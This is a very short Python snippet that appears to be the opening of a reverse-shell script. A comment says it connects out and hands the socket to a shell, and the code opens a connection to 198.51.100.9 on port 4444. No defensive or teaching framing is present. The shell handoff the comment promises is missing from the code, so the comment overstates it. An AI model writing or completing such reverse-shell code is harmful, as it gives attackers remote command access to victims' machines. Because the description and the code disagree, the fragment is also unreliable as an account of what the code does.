# Connects out and hands the socket to a shell.
import socket

conn = socket.create_connection(("198.51.100.9", 4444))
